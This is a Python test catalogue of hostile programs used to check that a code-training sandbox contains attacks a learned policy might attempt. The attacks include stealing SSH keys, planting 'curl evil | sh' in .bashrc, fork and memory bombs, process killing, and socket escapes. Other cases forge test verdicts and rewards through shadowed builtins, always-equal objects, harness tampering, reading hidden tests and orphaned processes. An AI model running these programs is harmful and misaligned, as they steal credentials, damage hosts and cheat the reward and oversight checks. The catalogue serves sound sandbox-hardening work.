"""The hostile-program catalogue of the sandbox (used by tests/test_sandbox_hostile.py).

Every case is one attack a policy could learn, with the host-side setup that gives it something to
steal or break and the host-side check that it failed. The rule for the verdict is the same
everywhere: the test of a case passes only if the attack worked, so a contained case is one whose
test failed *and* whose host checks hold.

Standard library plus the sandbox only, so that ``python sandbox_hostile_cases.py <repo> <workspace>``
can run the whole catalogue as an unprivileged user (it prints one JSON line per case).
"""

from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

FAST = {"timeout_s": 2.0, "memory_mb": 256, "max_file_mb": 4, "max_processes": 16, "tmp_mb": 16}
WANT_TRUE = "def check(candidate):\n    assert candidate() == True\n"


def _sandbox():
    from comlrl_lightning.envs.code import sandbox

    return sandbox


def _one(code: str, test: str = WANT_TRUE, **options):
    results = _sandbox().run_tests(code, test, "f", **{**FAST, **options})
    assert len(results) == 1, results
    return results[0]


def _verdict(result, extra_ok: bool = True, detail: str = "") -> tuple[bool, str]:
    return (not result.passed) and extra_ok, f"{result.error_type}: {result.error_message} {detail}".strip()


def _pids_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if token.encode() in fh.read():
                        found.append(int(entry))
            except OSError:
                pass
    return found


def _descendants(root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as fh:
                    stat = fh.read()
                ppid = int(stat[stat.rindex(")") + 2 :].split()[1])
                children.setdefault(ppid, []).append(int(entry))
            except (OSError, ValueError, IndexError):
                pass
    out, todo = set(), [root]
    while todo:
        pid = todo.pop()
        for child in children.get(pid, []):
            if child not in out:
                out.add(child)
                todo.append(child)
    return out


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split(")")[-1].split()[0] != "Z"
    except OSError:
        return False


# ---------------------------------------------------------------------------------------------
# The cases: each takes the workspace (a private directory of the caller) and returns
# (contained, detail).


def read_ssh_and_netrc(ws: Path):
    home = ws / "home"
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    secret = "sk-" + secrets.token_hex(8)
    for name in (".ssh/id_ed25519", ".netrc"):
        (home / name).write_text(secret)
        os.chmod(home / name, 0o600)
    code = (
        "def f():\n"
        f"    for p in ({str(home / '.ssh/id_ed25519')!r}, {str(home / '.netrc')!r}, '/root/.ssh/id_rsa', "
        "'/root/.netrc'):\n"
        "        try:\n"
        "            if open(p).read().startswith('sk-'):\n"
        "                return True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return False\n"
    )
    return _verdict(_one(code))


def write_bashrc(ws: Path):
    bashrc = ws / "home" / ".bashrc"
    bashrc.parent.mkdir(parents=True, exist_ok=True)
    bashrc.write_text("# rc\n")
    code = f"def f():\n    open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')\n    return True\n"
    r = _one(code)
    return _verdict(r, bashrc.read_text() == "# rc\n")


def write_library_files(ws: Path):
    sandbox_py = Path(_sandbox().__file__)
    before = sandbox_py.read_bytes()
    code = (
        "def f():\n"
        "    wrote = False\n"
        f"    for p in ({str(sandbox_py)!r}, '/etc/passwd', '/usr/lib/os-release', '/tmp/../usr/x'):\n"
        "        try:\n"
        "            open(p, 'a').write('# pwned\\n')\n"
        "            wrote = True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return wrote\n"
    )
    r = _one(code)
    return _verdict(r, sandbox_py.read_bytes() == before)


def kill_parent_and_everyone(ws: Path):
    sentinel = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        code = (
            "import os, signal\n"
            "def f():\n"
            "    ppid = os.getppid()\n"
            "    with open(f'/proc/{ppid}/stat') as fh:\n"
            "        grand = int(fh.read().rsplit(')', 1)[1].split()[1])\n"
            f"    targets = [ppid, grand, 1, {os.getpid()}, {sentinel.pid}, -1]\n"
            "    for pid in targets:\n"
            "        try:\n"
            "            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n"
            "            pass\n"
            "    return True\n"
        )
        r = _one(code)
        ok = sentinel.poll() is None
    finally:
        sentinel.kill()
        sentinel.wait()
    # Passing is harmless here (the code may return True); what matters is who is still alive.
    return ok, f"{r.error_type}: {r.error_message}; sentinel alive: {ok}"


def connect_tcp_loopback(ws: Path):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.3)
    port = listener.getsockname()[1]
    code = (
        "import socket, subprocess\n"
        "def f():\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
        "        return True\n"
        "    except OSError:\n"
        "        pass\n"
        f"    cmd = ['python3', '-c', 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 1)']\n"
        "    try:\n"
        "        return subprocess.run(cmd, timeout=1.5).returncode == 0\n"
        "    except Exception:\n"
        "        return False\n"
    )
    try:
        r = _one(code)
        try:
            listener.accept()
            reached = True
        except TimeoutError:
            reached = False
    finally:
        listener.close()
    return _verdict(r, not reached)


def connect_unix_sockets(ws: Path):
    path = str(ws / "agent.sock")
    abstract = "\0comlrl-" + secrets.token_hex(6)
    listeners = []
    for address in (path, abstract):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(address)
        s.listen(4)
        s.settimeout(0.2)
        listeners.append(s)
    if os.geteuid() == 0:
        os.chmod(path, 0o777)
    code = (
        "import socket\n"
        "def f():\n"
        f"    for address in ({path!r}, {abstract!r}, '/run/docker.sock', '/var/run/docker.sock'):\n"
        "        try:\n"
        "            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "            s.connect(address)\n"
        "            s.sendall(b'leak')\n"
        "            return True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return False\n"
    )
    try:
        r = _one(code)
        reached = False
        for s in listeners:
            try:
                s.accept()
                reached = True
            except TimeoutError:
                pass
    finally:
        for s in listeners:
            s.close()
    return _verdict(r, not reached)


def fill_tmp_and_shm(ws: Path):
    token = secrets.token_hex(6)
    code = (
        "def f():\n"
        "    written = 0\n"
        f"    for d in ('/tmp', '/var/tmp', '/dev/shm', '.'):\n"
        "        try:\n"
        f"            with open(d + '/fill-{token}', 'wb') as fh:\n"
        "                for _ in range(8):\n"
        "                    fh.write(b'x' * 2**20)\n"
        "                    written += 1\n"
        "        except OSError:\n"
        "            pass\n"
        "    return written >= 32\n"
    )
    r = _one(code)
    left = [d for d in ("/tmp", "/var/tmp", "/dev/shm") if os.path.exists(f"{d}/fill-{token}")]
    return _verdict(r, not left, f"left behind: {left}")


def memory_across_children(ws: Path):
    code = (
        "import os, time\n"
        "def f():\n"
        "    for _ in range(4):\n"
        "        if os.fork() == 0:\n"
        "            block = bytearray(100 * 2**20)\n"
        "            block[::4096] = b'x' * len(block[::4096])\n"
        "            time.sleep(5)\n"
        "            os._exit(0)\n"
        "    time.sleep(1.5)\n"
        "    return True\n"
    )
    r = _one(code, memory_mb=256, max_processes=16)
    return _verdict(r, r.error_type == "MemoryError")


def fork_bomb(ws: Path):
    code = (
        "import os\n"
        "def f():\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            pass\n"
    )
    start = time.monotonic()
    r = _one(code, timeout_s=1.0, max_processes=16)
    return _verdict(r, time.monotonic() - start < 20, f"took {time.monotonic() - start:.1f} s")


def read_host_cmdline(ws: Path):
    token = "argv-secret-" + secrets.token_hex(6)
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", token])
    try:
        code = (
            "import os\n"
            "def f():\n"
            "    for pid in os.listdir('/proc'):\n"
            "        try:\n"
            "            with open(f'/proc/{pid}/cmdline', 'rb') as fh:\n"
            f"                if {token.encode()!r} in fh.read():\n"
            "                    return True\n"
            "        except OSError:\n"
            "            pass\n"
            "    return False\n"
        )
        r = _one(code)
    finally:
        holder.kill()
        holder.wait()
    return _verdict(r)


def read_other_sandbox(ws: Path):
    token = "other-" + secrets.token_hex(6)
    writer = (
        "import os, time\n"
        "def f():\n"
        f"    open('/tmp/secret.txt', 'w').write({token!r})\n"
        f"    open('/dev/shm/secret.txt', 'w').write({token!r})\n"
        "    time.sleep(1.5)\n"
        "    return False\n"
    )
    reader = (
        "import glob, os, time\n"
        "def f():\n"
        "    time.sleep(0.5)\n"
        "    paths = glob.glob('/tmp/**/*', recursive=True) + glob.glob('/dev/shm/*')\n"
        "    paths += glob.glob('/proc/*/root/tmp/*') + glob.glob('/proc/*/cwd/*')\n"
        "    for p in paths:\n"
        "        try:\n"
        f"            if {token!r} in open(p).read():\n"
        "                return True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return False\n"
    )
    jobs = [{"code": c, "test_code": WANT_TRUE, "entry_point": "f"} for c in (writer, reader)]
    results = _sandbox().run_tests_many(jobs, max_workers=2, **FAST)
    return _verdict(results[1][0])


def starve_other_sandbox(ws: Path):
    hog = (
        "import threading, time\n"
        "def f():\n"
        "    threads = []\n"
        "    try:\n"
        "        while True:\n"
        "            t = threading.Thread(target=time.sleep, args=(3,))\n"
        "            t.start()\n"
        "            threads.append(t)\n"
        "    except RuntimeError:\n"
        "        time.sleep(1.5)\n"
        "    return False\n"
    )
    correct = (
        "import threading, time\n"
        "def f():\n"
        "    time.sleep(0.4)\n"
        "    out = []\n"
        "    threads = [threading.Thread(target=out.append, args=(i,)) for i in range(8)]\n"
        "    for t in threads:\n"
        "        t.start()\n"
        "    for t in threads:\n"
        "        t.join()\n"
        "    return len(out) == 8\n"
    )
    jobs = [{"code": c, "test_code": WANT_TRUE, "entry_point": "f"} for c in (hog, correct)]
    results = _sandbox().run_tests_many(jobs, max_workers=2, **FAST)
    ok = results[1][0].passed
    return ok, f"correct program: {results[1][0].error_type}: {results[1][0].error_message}"


def forge_exec_timed(ws: Path):
    code = (
        "import sys, gc\n"
        "main = sys.modules['__main__']\n"
        "for name in ('_exec_timed', '_call_timed', '_judge_exec', '_case_source'):\n"
        "    setattr(main, name, lambda *a, **k: None)\n"
        "for obj in gc.get_objects():\n"
        "    if isinstance(obj, dict) and 'assert' in str(obj.get('src', '')):\n"
        "        obj['src'] = 'pass'\n"
        "def f():\n"
        "    return 'wrong'\n"
    )
    return _verdict(_one(code, test="def check(candidate):\n    assert candidate() == 'right'\n"))


def forge_always_equal(ws: Path):
    code = (
        "class Anything(str):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = str.__hash__\n"
        "class Any2:\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "def f(x):\n"
        "    return Anything('x') if x == 0 else Any2()\n"
    )
    test = "def check(candidate):\n    assert candidate(0) == 'right'\n    assert candidate(1) == [1, 2]\n"
    results = _sandbox().run_tests(code, test, "f", **FAST)
    return (not any(r.passed for r in results)), "; ".join(f"{r.error_type}: {r.error_message}" for r in results)


def forge_with_gc_and_fds(ws: Path):
    code = (
        "import gc, os, sys, json\n"
        "def f():\n"
        "    nonces = [o for o in gc.get_objects() if isinstance(o, str) and len(o) == 32]\n"
        "    lines = [json.dumps({'t': 'result', 'i': 0, 'ok': True})]\n"
        "    lines += [n + ' ' + lines[0] for n in nonces[:50]]\n"
        "    payload = ('\\n'.join(lines + [json.dumps({'t': 'done'})]) + '\\n').encode()\n"
        "    for fd in range(3, 64):\n"
        "        try:\n"
        "            os.write(fd, payload)\n"
        "        except OSError:\n"
        "            pass\n"
        "    for path in ('/proc/1/fd/1', '/proc/1/fd/3', '/proc/1/fd/4', '/proc/1/fd/5'):\n"
        "        try:\n"
        "            with open(path, 'wb') as fh:\n"
        "                fh.write(payload)\n"
        "        except OSError:\n"
        "            pass\n"
        "    return 'wrong'\n"
    )
    return _verdict(_one(code, test="def check(candidate):\n    assert candidate() == 'right'\n"))


def read_hidden_tests(ws: Path):
    hidden = "HIDDEN-" + secrets.token_hex(6)
    problems = Path(_sandbox().__file__).with_name("data") / "problems.jsonl"
    code = (
        "import gc, os\n"
        "def f():\n"
        "    for o in gc.get_objects():\n"
        "        if isinstance(o, str) and 'HIDDEN-' in o and 'gc.get_objects' not in o:\n"
        "            i = o.index('HIDDEN-')\n"
        "            return o[i:i + 19]\n"
        "    for path in ('/proc/1/fd/0', '/proc/1/mem', '/proc/1/environ', '/proc/1/cmdline',\n"
        f"                 '/proc/self/fd/0', {str(problems)!r}):\n"
        "        try:\n"
        "            data = open(path, 'rb').read(1 << 20).decode(errors='replace')\n"
        "        except OSError:\n"
        "            continue\n"
        "        if 'HIDDEN-' in data:\n"
        "            i = data.index('HIDDEN-')\n"
        "            return data[i:i + 19]\n"
        "        if 'def check' in data:\n"
        "            return 'builtin tests readable'\n"
        "    return None\n"
    )
    r = _one(code, test=f"def check(candidate):\n    assert candidate() == {hidden!r}\n")
    # A second probe: is the built-in problem file readable at all from inside?
    probe = f"def f():\n    try:\n        return 'def check' in open({str(problems)!r}).read()\n" \
            "    except OSError:\n        return False\n"
    r2 = _one(probe)
    return _verdict(r, not r2.passed, f"builtin problems readable: {r2.passed}")


def orphans_after_trainer_crash(ws: Path, repo: str):
    token = "600." + str(secrets.randbelow(10**9)).zfill(9)
    code = (
        "import os, signal, subprocess, time\n"
        "def f():\n"
        "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        f"    subprocess.Popen(['sleep', {token!r}], start_new_session=True)\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "        time.sleep(600)\n"
        "    time.sleep(600)\n"
    )
    script = ws / "trainer.py"
    script.write_text(
        "import sys\n"
        f"sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
        "import sandbox_hostile_cases as h\n"
        f"h.import_library({repo!r})\n"
        f"h._one({code!r}, timeout_s=30.0)\n"
    )
    trainer = subprocess.Popen([sys.executable, str(script)], cwd=str(ws))
    deadline = time.monotonic() + 20
    while not _pids_with(token) and time.monotonic() < deadline and trainer.poll() is None:
        time.sleep(0.05)
    started = bool(_pids_with(token))
    tree = _descendants(trainer.pid)
    trainer.kill()
    trainer.wait()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and (any(_alive(p) for p in tree) or _pids_with(token)):
        time.sleep(0.05)
    survivors = [p for p in tree if _alive(p)] + _pids_with(token)
    tmp_left = [p for p in Path(tempfile.gettempdir()).glob("comlrl-sandbox-*") if p.stat().st_uid == os.getuid()
                and p.stat().st_mtime > time.time() - 30]
    return started and not survivors and not tmp_left, (
        f"attack started: {started}; processes in the tree: {len(tree)}; survivors: {survivors}; "
        f"temp dirs left: {tmp_left}"
    )


# ---------------------------------------------------------------------------------------------
# Forging the verdict from the model's own module (issue 31): the tests must see the entry point only.


def forge_shadow_builtins(ws: Path):
    code = (
        "def abs(x):\n    return 0\n"
        "def range(*a):\n    return []\n"
        "def len(x):\n    return 3\n"
        "def sorted(x, *a, **k):\n    return [1, 2, 3]\n"
        "def set(*a):\n    return {1}\n"
        "def isinstance(x, t):\n    return True\n"
        "from operator import truth as all\n"
        "math = None\n"
        "def check(candidate):\n    return None\n"
        "def f(x):\n    return -1\n"
    )
    test = (
        "def check(candidate):\n"
        "    assert abs(candidate(2) - 4) < 1e-6\n"
        "    assert all(candidate(i) == i * i for i in range(3))\n"
        "    assert len(candidate(3)) == 3\n"
        "    assert sorted(candidate(1)) == [1, 2, 3]\n"
        "    assert set(candidate(2)) == {1}\n"
        "    assert isinstance(candidate(0), str)\n"
        "    assert math.fabs(candidate(5) - 25) < 1e-6\n"
    )
    results = _sandbox().run_tests(code, test, "f", **FAST)
    passed = [r.case for r in results if r.passed]
    return len(results) == 7 and not passed, f"passed: {passed}"


def forge_stop_iteration(ws: Path):
    code = (
        "def f(x):\n"
        "    if x == 1:\n"
        "        return True\n"
        "    raise StopIteration\n"
        "def g(x):\n"
        "    raise StopAsyncIteration\n"
    )
    test = (
        "def check(candidate):\n"
        "    assert all(map(candidate, [1, 2, 3]))\n"
        "    assert list(map(candidate, [2, 3])) == []\n"
        "    assert next(map(candidate, [2]), 'no value') == 'no value'\n"
        "    assert [y for y in map(candidate, [1, 2])] == [True]\n"
    )
    results = _sandbox().run_tests(code, test, "f", **FAST)
    results += _sandbox().run_cases(code, ["assert next(map(g, [1]), 0) == 0"], **FAST)
    passed = [r.case for r in results if r.passed]
    return len(results) == 5 and not passed, f"passed: {passed}"


HALF_TASK = {
    "prompt": "def half(x: float) -> float:\n    \"\"\"Half of x.\"\"\"\n",
    "entry_point": "half",
    "test": (
        "def check(candidate):\n"
        "    assert abs(candidate(4.0) - 2.0) < 1e-6\n"
        "    assert abs(candidate(6.0) - 3.0) < 1e-6\n"
        "    assert abs(candidate(1.0) - 0.5) < 1e-6\n"
        "    assert abs(candidate(0.0) - 0.0) < 1e-6\n"
    ),
}
HALF_AUX = "def aux(x):\n    return x / 2\n"
HALF_MAIN = "def half(x):\n    y = aux(x)\n    return y if x == 4.0 else y + 1.0\n"  # right for 1 test of 4


def _rewards(aux: str, main: str, item: dict):
    from comlrl_lightning.envs.code.rewards import code_rewards

    (b,) = code_rewards([aux], [main], [item], max_workers=1, **FAST)
    return b


def _same_reward(aux_tricked: str, main_tricked: str, item: dict = HALF_TASK):
    honest = _rewards(HALF_AUX, HALF_MAIN, item)
    tricked = _rewards(aux_tricked, main_tricked, item)
    ok = honest.passed == 1 and tricked.passed == honest.passed and abs(tricked.total - honest.total) < 1e-9
    return ok, f"honest: {honest.passed}/{honest.total_tests} -> {honest.total:.2f}; " \
               f"tricked: {tricked.passed}/{tricked.total_tests} -> {tricked.total:.2f}"


def forge_reward_aux_alias(ws: Path):
    aux = "from operator import not_ as abs\nimport operator as math\n\n" + HALF_AUX
    return _same_reward(aux, HALF_MAIN)


def forge_reward_default_argument(ws: Path):
    aux = (
        "def aux(x, _=globals().update(abs=__import__('operator').not_, range=lambda *a: ())):\n"
        "    return x / 2\n"
    )
    main = "def half(x, _=globals().__setitem__('isinstance', lambda *a: True)):\n" \
           "    y = aux(x)\n    return y if x == 4.0 else y + 1.0\n"
    return _same_reward(aux, main)


def forge_reward_shadowed_aux(ws: Path):
    """Main brings its own ``aux`` (a default argument, a local, a nested def): it calls no function of agent 0,
    so it earns no cooperation terms, exactly like the same main with the name spelled ``helper``."""
    item = HALF_TASK
    details, ok = [], True
    for template in (
        "def half(x, {n}=lambda v: v / 2):\n    y = {n}(x)\n    return y + 0.0\n",
        "def half(x):\n    {n} = lambda v: v / 2\n    y = {n}(x)\n    return y + 0.0\n",
        "def half(x):\n    def {n}(v):\n        return v / 2\n    y = {n}(x)\n    return y + 0.0\n",
    ):
        tricked = _rewards(HALF_AUX, template.format(n="aux"), item)
        plain = _rewards(HALF_AUX, template.format(n="helper"), item)
        ok = ok and tricked.passed == plain.passed == 4 and abs(tricked.total - plain.total) < 1e-9
        details.append(f"{tricked.total:.2f} vs {plain.total:.2f}")
    return ok, "own aux vs helper: " + "; ".join(details)


SHIFT_PROMPT = (
    "def encode_shift(s: str):\n"
    "    return ''.join(chr(((ord(ch) + 5 - ord('a')) % 26) + ord('a')) for ch in s)\n\n\n"
    "def decode_shift(s: str):\n    \"\"\"Takes a string encoded with encode_shift; returns the decoded string.\"\"\"\n"
)
SHIFT_TEST = (
    "def check(candidate):\n"
    "    for word in ('hello', 'sandbox', 'zebra'):\n"
    "        assert candidate(encode_shift(word)) == word\n"
)


def forge_prompt_helper(ws: Path):
    identity = "def encode_shift(s):\n    return s\n\ndef decode_shift(s):\n    return s\n"
    right = "def decode_shift(s):\n    return ''.join(chr(((ord(c) - 5 - ord('a')) % 26) + ord('a')) for c in s)\n"
    sb = _sandbox()
    forged = sb.run_tests(identity, SHIFT_TEST, "decode_shift", prompt=SHIFT_PROMPT, **FAST)
    honest = sb.run_tests(right, SHIFT_TEST, "decode_shift", prompt=SHIFT_PROMPT, **FAST)
    # The code environment: the identity helper smuggled in through aux's default argument.
    item = {"prompt": SHIFT_PROMPT, "entry_point": "decode_shift", "test": SHIFT_TEST}
    aux = "def aux(s, _=globals().__setitem__('encode_shift', lambda s: s)):\n    return s\n"
    main = "def decode_shift(s):\n    return aux(s)\n"
    b = _rewards(aux, main, item)
    ok = forged and not any(r.passed for r in forged) and all(r.passed for r in honest) and b.passed == 0
    return ok, (f"identity decoder: {[r.passed for r in forged]}; right decoder: {[r.passed for r in honest]}; "
                f"code env: {b.passed}/{b.total_tests}")


def _feedback(aux: str, main: str, item: dict, mode: str) -> list[str]:
    from comlrl_lightning.envs.code.transitions import make_code_transition

    t = make_code_transition(mode, sandbox_slice="all", **FAST).bind(item)
    return t(item["prompt"], [aux, main], 2)


def forge_transition_feedback(ws: Path):
    """The multi-turn feedback runs the task's tests too: a wrong main whose aux redefines a helper of the
    prompt (or a builtin) must get the feedback it gets without the trick, in every test-running mode."""
    wrong_main = "def decode_shift(s):\n    return aux(s)\n"
    honest_aux = "def aux(s):\n    return s\n"
    tricks = (
        "def encode_shift(s):\n    return s\n\ndef aux(s):\n    return s\n",
        "def aux(s, _=globals().__setitem__('encode_shift', lambda s: s)):\n    return s\n",
    )
    item = {"prompt": SHIFT_PROMPT, "entry_point": "decode_shift", "test": SHIFT_TEST}
    details, ok = [], True
    for mode, marker in (("level_feedback", "- Tests: 0/1 passed"), ("level_passed", "- Tests: No tests passed"),
                         ("passed", "Signal: Not all levels passed")):
        honest = _feedback(honest_aux, wrong_main, item, mode)
        for aux in tricks:
            tricked = _feedback(aux, wrong_main, item, mode)
            # the aux prompt shows aux's own code, which differs between the two; main's feedback must not
            same = tricked[1] == honest[1] and marker in tricked[1]
            ok = ok and same
            if not same:
                details.append(f"{mode}: {[ln for ln in tricked[1].splitlines() if 'Test' in ln or 'Signal' in ln]}")
    # HALF_TASK: a builtin rebound through a default argument
    aux = "def aux(x, _=globals().update(abs=lambda v: 0.0)):\n    return x / 2\n"
    honest = _feedback(HALF_AUX, HALF_MAIN, HALF_TASK, "level_feedback")
    tricked = _feedback(aux, HALF_MAIN, HALF_TASK, "level_feedback")
    ok = ok and tricked[1] == honest[1] and "- Tests: 1/4 passed" in honest[1]
    if tricked[1] != honest[1]:
        details.append("abs rebound: " + " | ".join(ln for ln in tricked[1].splitlines() if "Tests" in ln))
    return ok, "; ".join(details) or "same feedback with and without the tricks"


# ---------------------------------------------------------------------------------------------
# Resources beyond address space, secrets beyond files (issue 31)


def memfd_bomb(ws: Path):
    code = (
        "import os\n"
        "def f():\n"
        "    fds, held = [], 0\n"
        "    for _ in range(50):\n"  # 50 x 16 MB (max_file_mb): in no process's resident memory
        "        try:\n"
        "            fd = os.memfd_create('bomb')\n"
        "        except OSError:\n"
        "            return False\n"
        "        for _ in range(16):\n"
        "            os.write(fd, b'x' * 2**20)\n"
        "        held += 16\n"
        "        fds.append(fd)\n"
        "    return held >= 800\n"
    )
    r = _one(code, timeout_s=10.0, memory_mb=256, max_file_mb=16)
    return _verdict(r)


def sysv_segments(ws: Path):
    code = (
        "import ctypes, time\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.shmat.restype = ctypes.c_void_p\n"
        "def f():\n"
        "    done = 0\n"
        "    for _ in range(4):\n"  # 4 x 100 MB under a 256 MB budget
        "        sid = libc.shmget(0, 100 * 2**20, 0o1600)\n"
        "        if sid < 0:\n"
        "            return False\n"
        "        addr = libc.shmat(sid, None, 0)\n"
        "        if addr in (None, ctypes.c_void_p(-1).value):\n"
        "            return False\n"
        "        ctypes.memset(addr, 1, 100 * 2**20)\n"
        "        libc.shmdt(ctypes.c_void_p(addr))\n"
        "        done += 1\n"
        "    time.sleep(0.5)\n"
        "    return done == 4\n"
    )
    r = _one(code, timeout_s=10.0, memory_mb=256)
    return _verdict(r, r.error_type == "MemoryError")


def tmp_inode_flood(ws: Path):
    code = (
        "def f():\n"
        "    for i in range(100000):\n"  # empty files: ~100 MB of kernel memory that a 16 MB size cap ignores
        "        open(f'/tmp/{i}', 'w').close()\n"
        "    return True\n"
    )
    r = _one(code, timeout_s=15.0)
    return _verdict(r, r.error_type == "OSError" and "max_tmp_files" in (r.error_message or ""))


def write_sandbox_root(ws: Path):
    """bwrap's root is a tmpfs without a size cap (writable from inside a user namespace): no file may land there."""
    code = (
        "def f():\n"
        "    wrote = []\n"
        "    for d in ('/', '/run', '/var', '/dev', '/proc/sys/kernel'):\n"
        "        try:\n"
        "            with open(d.rstrip('/') + '/x', 'wb') as fh:\n"
        "                fh.write(b'x')\n"
        "            wrote.append(d)\n"
        "        except OSError:\n"
        "            pass\n"
        "    return wrote\n"
    )
    return _verdict(_one(code, test="def check(candidate):\n    assert candidate() != []\n"))


def _host_keyctl():
    import ctypes

    number = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
    if number is None:
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    return libc, number


def keyring_read(ws: Path):
    import ctypes

    secret = "key-" + secrets.token_hex(8)
    found = _host_keyctl()
    key_ids = []
    if found is not None:
        libc, (add_key, _) = found
        for ring in (-3, -4):  # the session keyring, the user keyring
            key = libc.syscall(ctypes.c_long(add_key), b"user", f"comlrl-{ring}".encode(), secret.encode(),
                               ctypes.c_size_t(len(secret)), ctypes.c_long(ring))
            if key > 0:
                key_ids.append(key)
    code = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"NR = {{'x86_64': 250, 'aarch64': 219}}.get(os.uname().machine, 250)\n"
        "def keyctl(*a):\n"
        "    return libc.syscall(ctypes.c_long(NR), *(ctypes.c_long(x) if isinstance(x, int) else x for x in a))\n"
        "def f():\n"
        "    buf = ctypes.create_string_buffer(256)\n"
        f"    for key in {key_ids!r}:\n"
        "        n = keyctl(11, key, buf, 256)\n"  # KEYCTL_READ
        "        if n > 0:\n"
        "            return buf.raw[:n].decode()\n"
        "    for ring in (-3, -4, -5):\n"  # session, user, user-session keyrings
        "        if keyctl(0, ring, 0) >= 0:\n"  # KEYCTL_GET_KEYRING_ID
        "            return 'keyring reachable'\n"
        "    if keyctl(1, ctypes.c_char_p(b'_ses'), 0) >= 0:\n"  # join a named keyring
        "        return 'named keyring joined'\n"
        "    return None\n"
    )
    try:
        r = _one(code, test=f"def check(candidate):\n    assert candidate() in ({secret!r}, 'x')\n")
        r2 = _one(code, test="def check(candidate):\n    assert candidate() is None\n")
    finally:
        if found is not None:
            for key in key_ids:
                found[0].syscall(ctypes.c_long(found[1][1]), ctypes.c_long(21), ctypes.c_long(key))  # KEYCTL_INVALIDATE
    return _verdict(r, r2.passed, f"keys planted: {len(key_ids)}; probe: {r2.error_type}: {r2.error_message}")


def socket_families(ws: Path):
    code = (
        "import socket, subprocess\n"
        "def f():\n"
        "    made = []\n"
        "    for name in ('AF_VSOCK', 'AF_INET', 'AF_INET6', 'AF_NETLINK', 'AF_PACKET'):\n"
        "        try:\n"
        "            kind = socket.SOCK_RAW if name == 'AF_PACKET' else socket.SOCK_DGRAM\n"
        "            socket.socket(getattr(socket, name), kind).close()\n"
        "            made.append(name)\n"
        "        except (OSError, AttributeError):\n"
        "            pass\n"
        "    cmd = ['python3', '-c', 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)']\n"
        "    try:\n"
        "        if subprocess.run(cmd, timeout=1.5, capture_output=True).returncode == 0:\n"
        "            made.append('AF_INET from a subprocess')\n"
        "    except Exception:\n"
        "        pass\n"
        "    return made\n"
    )
    r = _one(code, test="def check(candidate):\n    assert candidate() != []\n")
    return _verdict(r)


def read_ssh_via_python_prefix(ws: Path):
    """A Python whose prefix also holds ~/.ssh (a home-directory install): the sandbox refuses to mount it."""
    import sysconfig

    home = ws / "pyhome"
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / "bin").mkdir(exist_ok=True)
    (home / "lib").mkdir(exist_ok=True)
    secret = "sk-" + secrets.token_hex(8)
    (home / ".ssh" / "id_ed25519").write_text(secret)
    real = os.path.realpath(sys.executable)
    fake = home / "bin" / "python3"
    if not fake.exists():
        import shutil

        shutil.copy2(real, fake)
        stdlib = Path(sysconfig.get_paths()["stdlib"])
        (home / "lib" / stdlib.name).symlink_to(stdlib)
    probe = subprocess.run([str(fake), "-I", "-S", "-c", "import sys; print(sys.base_prefix)"],
                           capture_output=True, text=True, timeout=30)
    if probe.stdout.strip() != str(home):
        return False, f"could not build an interpreter whose prefix is the home: {probe.stdout} {probe.stderr}"
    code = f"def f():\n    return open({str(home / '.ssh' / 'id_ed25519')!r}).read()\n"
    try:
        r = _one(code, test=f"def check(candidate):\n    assert candidate() == {secret!r}\n", python=str(fake))
    except _sandbox().SandboxError as exc:
        return ".ssh" in str(exc) and "refusing" in str(exc), f"refused: {exc}"
    return False, f"not refused: {r.error_type}: {r.error_message} (passed: {r.passed})"


CASES = {
    "read_ssh_and_netrc": read_ssh_and_netrc,
    "write_bashrc": write_bashrc,
    "write_library_files": write_library_files,
    "kill_parent_and_everyone": kill_parent_and_everyone,
    "connect_tcp_loopback": connect_tcp_loopback,
    "connect_unix_sockets": connect_unix_sockets,
    "fill_tmp_and_shm": fill_tmp_and_shm,
    "memory_across_children": memory_across_children,
    "fork_bomb": fork_bomb,
    "read_host_cmdline": read_host_cmdline,
    "read_other_sandbox": read_other_sandbox,
    "starve_other_sandbox": starve_other_sandbox,
    "forge_exec_timed": forge_exec_timed,
    "forge_always_equal": forge_always_equal,
    "forge_with_gc_and_fds": forge_with_gc_and_fds,
    "read_hidden_tests": read_hidden_tests,
    "orphans_after_trainer_crash": orphans_after_trainer_crash,
    "forge_shadow_builtins": forge_shadow_builtins,
